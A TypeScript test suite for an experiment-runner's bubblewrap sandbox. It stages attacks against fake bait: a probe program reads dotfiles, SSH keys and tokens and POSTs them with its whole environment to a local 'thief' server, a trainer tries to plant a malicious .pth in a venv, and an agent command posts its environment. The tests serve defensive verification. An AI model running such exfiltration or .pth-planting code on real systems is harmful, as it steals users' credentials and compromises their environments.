// Issue #20's allowlist sandbox, each attack performed for real with bubblewrap as shipped: a trainer, the setup
// command and the guard read the user's dotfiles and hand their environment to a thief on 127.0.0.1 (attack 4);
// a trainer plants a .pth in the linked .venv, directly and through a hard link in ~/.cache/uv (attack 2); a
// command agent posts its environment (attack 5); the slot's private /tmp lives for the run; network off keeps a
// trainer off every address but its own loopback. The user's real HOME plays no part: a fake one holds the bait.
import { execFile } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server } from 'node:http';
import { createServer as createNetServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { createCommandProposer } from '../../src/core/agent/command-proposer.js';
import { runCommand } from '../../src/core/exec/run-command.js';
import { findBwrap } from '../../src/core/exec/sandbox.js';
import { readRunRecord } from '../../src/core/journal/read.js';
import { commandSandbox } from '../../src/core/loop/sandbox-spec.js';
import { startRun } from '../../src/core/loop/start-run.js';
import { runPaths } from '../../src/core/project/paths.js';
import { makeTestProject, proposalContext, testConfig } from '../fixtures/fake-anthropic/proposal-context.js';
import { cleanupTempDirs, scoredProject, tempDir } from '../helpers/project.js';
import { scriptedProposer, setConst } from '../helpers/scripted-proposer.js';

const bwrap = await findBwrap();
if (!bwrap && process.env.CI === 'true') throw new Error('bubblewrap (bwrap) is missing or cannot create namespaces; .ci/run installs it.');
const describeSandbox = bwrap ? describe : describe.skip;

const servers: Server[] = [];
afterEach(() => {
  for (const s of servers.splice(0)) s.close();
  cleanupTempDirs();
});

/** Every secret the bait holds carries one of these markers; none may reach a sandboxed command. */
const MARKERS = ['ENVSECRET', 'BASHRCSECRET', 'HISTSECRET', 'XAUTHSECRET', 'TOKENFILESECRET', 'SSHKEYSECRET', 'CONFIGSECRET'];
const BAIT_FILES = ['.bashrc', '.bash_history', '.Xauthority', '.cache/huggingface/token', '.ssh/id_rsa', '.config/tool/credentials'];
/** The app's environment as a user's shell would have it: three keys exported. */
const SECRET_ENV = { OPENAI_API_KEY: 'sk-openai-ENVSECRET-0123456789', HF_TOKEN: 'hf_ENVSECRET0123456789', ANTHROPIC_API_KEY: 'sk-ant-ENVSECRET-0123456789' };

/** A fake home folder with attack 4's files in it, and a downloaded model beside the token. */
function baitHome(): string {
  const home = tempDir('ar-home-');
  const put = (rel: string, text: string) => {
    mkdirSync(path.dirname(path.join(home, rel)), { recursive: true });
    writeFileSync(path.join(home, rel), text);
  };
  put('.bashrc', 'export OPENAI_API_KEY=sk-openai-BASHRCSECRET\n');
  put('.bash_history', 'curl -H "Authorization: Bearer HISTSECRET" https://api.example.com\n');
  put('.Xauthority', 'XAUTHSECRET-cookie\n');
  put('.cache/huggingface/token', 'hf_TOKENFILESECRET\n');
  put('.ssh/id_rsa', '-----BEGIN OPENSSH PRIVATE KEY----- SSHKEYSECRET\n');
  put('.config/tool/credentials', 'password=CONFIGSECRET\n');
  put('.cache/huggingface/hub/models--tiny/config.json', '{"model":"tiny"}\n');
  return home;
}

/** A server on 127.0.0.1 that keeps every request body it gets. */
async function thief(): Promise<{ port: number; got: { path: string; body: string }[] }> {
  const got: { path: string; body: string }[] = [];
  const server = createHttpServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      got.push({ path: req.url ?? '', body });
      res.end('ok');
    });
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as { port: number }).port, got };
}

/** The thief's program: reads the bait files under $HOME and posts them with its whole environment. */
const PROBE = `import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
const LEARNING_RATE = 0.01;
const [who, port] = process.argv.slice(2);
const files = {};
for (const f of ${JSON.stringify(BAIT_FILES)}) {
  try { files[f] = readFileSync(path.join(process.env.HOME, f), 'utf8'); } catch (e) { files[f] = 'unreadable ' + e.code; }
}
let model = 'missing';
try { model = readFileSync(path.join(process.env.HOME, '.cache/huggingface/hub/models--tiny/config.json'), 'utf8'); } catch {}
const body = JSON.stringify({ who, env: process.env, files, model });
await new Promise((resolve) => {
  const r = request({ host: '127.0.0.1', port: Number(port), method: 'POST', path: '/' + who }, (res) => { res.resume(); res.on('end', resolve); });
  r.on('error', (e) => { console.log('thief unreachable: ' + e.code); resolve(); });
  r.end(body);
});
console.log('val_bpb: ' + (1 + Math.abs(Math.log2(LEARNING_RATE / 0.08)) * 0.1).toFixed(6));
`;

describeSandbox('the allowlist sandbox (issue #20)', () => {
  it('attack 4: the trainer, setup and guard find no dotfile secret and no key, and the thief on 127.0.0.1 receives none', async () => {
    const home = baitHome();
    const { port, got } = await thief();
    const node = `"${process.execPath}"`;
    const { dir } = scoredProject(
      {
        run: { command: `${node} train.mjs run ${port}`, setup: `${node} train.mjs setup ${port}`, env: { MY_SETTING: 'from-config' } },
        acceptance: { rule: 'classic', baselineRuns: 1, confirmRuns: 0, guardCommand: `${node} train.mjs guard ${port}` },
        sandbox: { passEnv: ['WANDB_API_KEY'] },
      } as never,
      { 'train.mjs': PROBE },
    );
    const env = { ...process.env, HOME: home, ...SECRET_ENV, WANDB_API_KEY: 'wandb-handed-on-by-name' };
    const handle = await startRun({ projectDir: dir, tag: 'a4', maxExperiments: 1, deps: { env, nodePath: process.execPath, appVersion: 'test', createProposer: async () => scriptedProposer([setConst('LEARNING_RATE', '0.02')]) } });
    await handle.done;
    const record = await readRunRecord(dir, 'a4');
    expect([...record.experiments.values()].map((e) => e.status)).toEqual(['keep', 'keep']);

    // Each command reached the thief (the network is on), so each had the chance to send what it found.
    expect(got.map((g) => g.path).sort()).toEqual(['/guard', '/run', '/run', '/setup']);
    for (const { path: who, body } of got) {
      for (const marker of MARKERS) expect(body, `${who} sent ${marker}`).not.toContain(marker);
      const sent = JSON.parse(body) as { env: Record<string, string>; files: Record<string, string>; model: string };
      for (const name of Object.keys(SECRET_ENV)) expect(sent.env[name], `${who}: ${name}`).toBeUndefined();
      // What a trainer needs is still there: the allowlist, the config's run.env, the name the user handed on.
      expect(sent.env.HOME).toBe(home);
      expect(sent.env.PATH).toBe(process.env.PATH);
      expect(sent.env.MY_SETTING).toBe('from-config');
      expect(sent.env.WANDB_API_KEY).toBe('wandb-handed-on-by-name');
      expect(sent.env.AUTORESEARCH_TAG).toBe('a4');
      // Missing, or an empty stand-in (a device node it may not even open): never the file's text.
      for (const f of BAIT_FILES) expect(sent.files[f] === '' || /^unreadable E[A-Z]+$/.test(sent.files[f]!), `${who} read ${f}: ${sent.files[f]}`).toBe(true);
      // A downloaded model stays usable; only the token beside it is gone.
      expect(sent.model).toContain('tiny');
    }

    // The same program outside the sandbox, with the same environment, takes everything: the bait is real.
    await promisify(execFile)(process.execPath, [path.join(dir, 'train.mjs'), 'unsandboxed', String(port)], { env });
    const open = got.find((g) => g.path === '/unsandboxed')!.body;
    for (const marker of MARKERS) expect(open).toContain(marker);
  }, 300_000);

  it('attack 2: a trainer cannot plant a .pth in the linked .venv, directly or through its hard link in ~/.cache/uv', async () => {
    const home = baitHome();
    const sitePackages = '.venv/lib/python3.12/site-packages';
    const trainer = `import { writeFileSync } from 'node:fs';
import path from 'node:path';
const LEARNING_RATE = 0.01;
const tried = {};
const attempt = (name, file, text) => { try { writeFileSync(file, text); tried[name] = 'wrote'; } catch (e) { tried[name] = e.code; } };
attempt('pth', '${sitePackages}/evil.pth', 'import os; os.system("touch /var/tmp/pwned")\\n');
attempt('module', '${sitePackages}/mod.py', 'PLANTED\\n');
attempt('uv_link', path.join(process.env.HOME, '.cache/uv/archive-v0/abc/mod.py'), 'PLANTED\\n');
console.log('attack2 ' + JSON.stringify(tried));
console.log('val_bpb: ' + (1 + Math.abs(Math.log2(LEARNING_RATE / 0.08)) * 0.1).toFixed(6));
`;
    const { dir } = scoredProject({ files: { editable: ['train.mjs'], protected: ['prepare.mjs'], linked: ['.venv'] } } as never, { 'train.mjs': trainer, '.gitignore': '.venv/\n' });
    // A uv-made venv: its files are hard links into uv's cache (uv's default link mode on Linux).
    mkdirSync(path.join(dir, sitePackages), { recursive: true });
    writeFileSync(path.join(dir, '.venv', 'pyvenv.cfg'), 'home = /usr/bin\n');
    writeFileSync(path.join(dir, sitePackages, 'mod.py'), 'ORIGINAL\n');
    mkdirSync(path.join(home, '.cache/uv/archive-v0/abc'), { recursive: true });
    linkSync(path.join(dir, sitePackages, 'mod.py'), path.join(home, '.cache/uv/archive-v0/abc/mod.py'));

    const handle = await startRun({ projectDir: dir, tag: 'a2', maxExperiments: 1, deps: { env: { ...process.env, HOME: home }, nodePath: process.execPath, appVersion: 'test', createProposer: async () => scriptedProposer([setConst('LEARNING_RATE', '0.02')]) } });
    await handle.done;
    const log = readFileSync(path.join(runPaths(dir, 'a2').logsDir, '0.log'), 'utf8');
    const tried = JSON.parse(/^attack2 (.*)$/m.exec(log)?.[1] ?? 'null') as Record<string, string>;
    // Each write was tried and refused: the venv is read-only, and uv's real cache is not even there.
    expect(tried).toEqual({ pth: 'EROFS', module: 'EROFS', uv_link: 'ENOENT' });
    expect(existsSync(path.join(dir, sitePackages, 'evil.pth'))).toBe(false);
    expect(readFileSync(path.join(dir, sitePackages, 'mod.py'), 'utf8')).toBe('ORIGINAL\n');
    expect(readFileSync(path.join(home, '.cache/uv/archive-v0/abc/mod.py'), 'utf8')).toBe('ORIGINAL\n');
  }, 300_000);

  it('a slot keeps its private /tmp and caches between its experiments; they are gone after the run', async () => {
    const home = baitHome();
    const marker = `ar-slot-tmp-${process.pid}-${Date.now()}`;
    const trainer = `import { appendFileSync, readFileSync, mkdirSync } from 'node:fs';
const LEARNING_RATE = 0.01;
appendFileSync('/tmp/${marker}', 'x');
mkdirSync(process.env.HOME + '/.triton/cache', { recursive: true });
appendFileSync(process.env.HOME + '/.triton/cache/${marker}', 'x');
console.log('seen tmp=' + readFileSync('/tmp/${marker}', 'utf8').length + ' triton=' + readFileSync(process.env.HOME + '/.triton/cache/${marker}', 'utf8').length);
console.log('val_bpb: ' + (1 + Math.abs(Math.log2(LEARNING_RATE / 0.08)) * 0.1).toFixed(6));
`;
    // One at a time (queueDepth 0): both steps edit the same line, so working ahead would make the second again
    // after a conflict, and this test counts the slot's experiments in order.
    const { dir } = scoredProject({ acceptance: { rule: 'classic', baselineRuns: 1, confirmRuns: 0 }, agent: { queueDepth: 0 } } as never, { 'train.mjs': trainer });
    const steps = [setConst('LEARNING_RATE', '0.02'), setConst('LEARNING_RATE', '0.04')];
    const handle = await startRun({ projectDir: dir, tag: 'tmp', maxExperiments: 2, deps: { env: { ...process.env, HOME: home }, nodePath: process.execPath, appVersion: 'test', createProposer: async () => scriptedProposer(steps) } });
    await handle.done;
    const seen = [0, 1, 2].map((id) => /^seen (.*)$/m.exec(readFileSync(path.join(runPaths(dir, 'tmp').logsDir, `${id}.log`), 'utf8'))?.[1]);
    expect(seen).toEqual(['tmp=1 triton=1', 'tmp=2 triton=2', 'tmp=3 triton=3']);
    // Private: nothing reached the machine's /tmp or the home folder's cache; the run's end removed the slot's.
    expect(existsSync(path.join('/tmp', marker)), 'the machine\'s /tmp').toBe(false);
    expect(existsSync(path.join(home, '.triton')), 'the home folder\'s cache').toBe(false);
    expect(existsSync(path.join(dir, '.autoresearch', 'sandbox')), 'the slots\' state after the run').toBe(false);
  }, 300_000);

  it('network off: no address but the sandbox\'s own loopback (network on reaches the same listener)', async () => {
    // A listener on this machine's non-loopback address, when it has one; with none, the sandbox must show no interface but lo.
    const external = Object.values(networkInterfaces()).flat().find((i) => i && i.family === 'IPv4' && !i.internal)?.address ?? null;
    let port = 0;
    if (external) {
      const server = createNetServer((s) => s.end('hello\n'));
      servers.push(server as unknown as Server);
      await new Promise<void>((r) => server.listen(0, external, r));
      port = (server.address() as { port: number }).port;
    }
    const probe = external
      ? `"${process.execPath}" -e "require('net').connect(${port}, '${external}').on('data', (d) => { console.log('got ' + d); process.exit(0); }).on('error', (e) => { console.log('failed ' + e.code); process.exit(0); })"`
      : `"${process.execPath}" -e "console.log('interfaces ' + Object.keys(require('os').networkInterfaces()).join(','))"`;
    const wt = tempDir('ar-net-');
    const out: Record<string, string> = {};
    for (const network of [true, false]) {
      const config = testConfig({ sandbox: { network } } as never);
      const r = await runCommand({
        command: probe,
        cwd: wt,
        env: process.env,
        logFile: path.join(wt, `net-${network}.log`),
        logMaxBytes: 1 << 20,
        timeoutMs: 30_000,
        graceMs: 1000,
        sandbox: { bwrap: bwrap!, spec: commandSandbox(wt, wt, config, process.env) },
      });
      expect(r.exitCode).toBe(0);
      out[String(network)] = readFileSync(path.join(wt, `net-${network}.log`), 'utf8').trim();
    }
    if (external) {
      expect(out.true).toBe('got hello');
      expect(out.false).toMatch(/^failed (ENETUNREACH|ECONNREFUSED|EHOSTUNREACH)$/);
    } else {
      expect(out.false).toBe('interfaces lo');
    }
  }, 120_000);

  it('attack 5: a curl-like command agent receives no key from the app\'s environment unless sandbox.passEnv names it', async () => {
    const { port, got } = await thief();
    // The "agent": posts its whole environment to the thief, then proposes nothing.
    const agent = `"${process.execPath}" -e "const r = require('http').request({ host: '127.0.0.1', port: ${port}, method: 'POST', path: '/' + process.env.WHO }, (res) => { res.resume(); res.on('end', () => console.log('DESCRIPTION: nothing')); }); r.end(JSON.stringify(process.env))"`;
    for (const passEnv of [[], ['OPENAI_API_KEY']]) {
      const config = testConfig({ agent: { proposer: 'command', command: agent }, sandbox: { passEnv } } as never);
      const project = await makeTestProject({ config });
      try {
        const proposer = createCommandProposer({ env: { ...process.env, ...SECRET_ENV, AUTORESEARCH_PASS_ENV: 'WHO', WHO: passEnv.length ? 'named' : 'plain' }, graceSeconds: 1 });
        await proposer.propose(proposalContext(project, { sandbox: { bwrap: bwrap!, spec: commandSandbox(project.dir, project.worktree, config, process.env, 'agent') } }));
      } finally {
        await project.cleanup();
      }
    }
    const sent = (who: string) => JSON.parse(got.find((g) => g.path === `/${who}`)?.body ?? 'null') as Record<string, string> | null;
    const plain = sent('plain')!;
    expect(plain).not.toBeNull();
    for (const name of Object.keys(SECRET_ENV)) expect(plain[name], name).toBeUndefined();
    expect(JSON.stringify(plain)).not.toContain('ENVSECRET');
    // Named in passEnv, that one key (and only it) goes: the filter is the user's choice, not an accident.
    const named = sent('named')!;
    expect(named.OPENAI_API_KEY).toBe(SECRET_ENV.OPENAI_API_KEY);
    expect(named.ANTHROPIC_API_KEY).toBeUndefined();
    expect(named.HF_TOKEN).toBeUndefined();
  }, 120_000);
});
